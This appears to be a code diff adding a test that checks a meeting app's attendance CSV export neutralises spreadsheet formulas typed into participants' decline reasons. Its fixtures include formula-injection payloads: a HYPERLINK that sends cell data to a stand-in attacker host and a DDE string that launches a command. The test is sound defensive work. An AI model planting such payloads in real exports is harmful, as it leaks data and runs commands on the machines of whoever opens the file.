@@ -91,6 +91,23 @@ class RoomPageTests(BaseTestCase):
 
 
 
+    def test_attendance_csv_does_not_run_formulas(self):
+        # A decline reason is typed by a participant; in the secretary's spreadsheet it must stay text.
+        import csv
+
+        reasons = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+1+cmd|' /C calc'!A0", "@SUM(A1:A9)"]
+        for part, reason in zip([self.room.member_parts[0], self.room.member_parts[1], self.room.parts["guest"]],
+                                reasons, strict=True):
+            part.response, part.response_reason = Participant.Response.DECLINE, reason
+            part.save()
+        response = self.client_for(self.room.chair).get(f"/meetings/{self.m.pk}/room/attendance.csv")
+        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+        cells = [cell for row in rows for cell in row]
+        for reason in reasons:
+            self.assertIn("'" + reason, cells)
+        self.assertFalse([c for c in cells if c[:1] in ("=", "+", "-", "@")])
+
+
 class MeetingPageLinksToRoomTests(BaseTestCase):
     def test_meeting_page_leads_into_the_room_once_scheduled(self):
         room = make_room(prefix="l")
